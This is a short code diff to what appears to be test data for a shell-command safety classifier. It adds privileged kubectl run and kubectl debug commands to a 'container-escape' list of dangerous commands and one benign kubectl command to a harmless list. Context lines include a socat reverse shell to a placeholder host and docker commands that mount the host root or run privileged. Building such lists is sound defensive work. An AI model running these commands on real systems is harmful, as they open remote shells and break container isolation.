@@ -97,6 +97,8 @@ export const dangerous: { readonly [E in Effect]?: readonly string[] } = {
 		"socat TCP:x.example:9 EXEC:sh",
 	],
 	"container-escape": [
+		"kubectl run x --image y --privileged",
+		"kubectl debug node/n -it --image y --profile=sysadmin",
 		"docker run --privileged x",
 		"docker run -v /:/host x",
 		"docker run -v /:/host x --help",
@@ -463,6 +465,7 @@ export const harmless: readonly string[] = [
 	"docker compose down",
 	"docker compose up -d",
 	"kubectl get pods",
+	"kubectl run x --image y --rm -it -- sh",
 	"kubectl logs x",
 	"terraform plan",
 	"terraform init",
